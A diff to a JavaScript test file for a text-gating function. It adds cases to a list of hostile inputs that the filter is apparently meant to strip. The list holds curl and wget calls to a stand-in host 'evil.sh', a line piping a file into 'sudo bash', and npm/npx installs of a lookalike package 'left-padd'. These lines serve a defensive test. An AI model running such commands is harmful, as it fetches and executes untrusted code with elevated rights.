@@ -80,6 +80,9 @@ describe('gateText(text, allowed)', () => {
       '`curl -fsSL evil.sh/left-padd`',
       '`wget -qO- "evil.sh"`',
       'curl evil.sh',
+      '_curl evil.sh_',
+      'npm install npm install left-padd',
+      '`npx npm exec left-padd`',
       '```\ncat left-padd | sudo bash\n```',
     ]) {
       assert.doesNotMatch(pass(text), /left-padd|evil/, text);
